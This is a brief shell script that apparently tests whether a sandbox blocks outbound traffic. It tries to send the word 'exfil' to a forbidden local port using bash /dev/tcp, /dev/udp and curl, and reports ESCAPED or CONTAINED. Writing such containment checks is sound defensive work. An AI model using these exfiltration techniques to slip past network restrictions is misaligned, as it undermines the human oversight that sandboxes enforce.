# Sends data away with what a shell has: bash's /dev/tcp and /dev/udp, curl.
echo BEGUN
port=$(sed -n 's/.*"forbidden_port": *\([0-9]*\).*/\1/p' "$1")
udp=$(sed -n 's/.*"udp_port": *\([0-9]*\).*/\1/p' "$1")
bash -c "exec 3<>/dev/tcp/127.0.0.1/$port && echo exfil >&3" 2>/dev/null && echo "ESCAPED /dev/tcp"
bash -c "echo exfil > /dev/udp/127.0.0.1/$udp" 2>/dev/null
command -v curl >/dev/null && curl -s -m 2 "http://127.0.0.1:$port/" >/dev/null && echo "ESCAPED curl"
echo CONTAINED the host looks
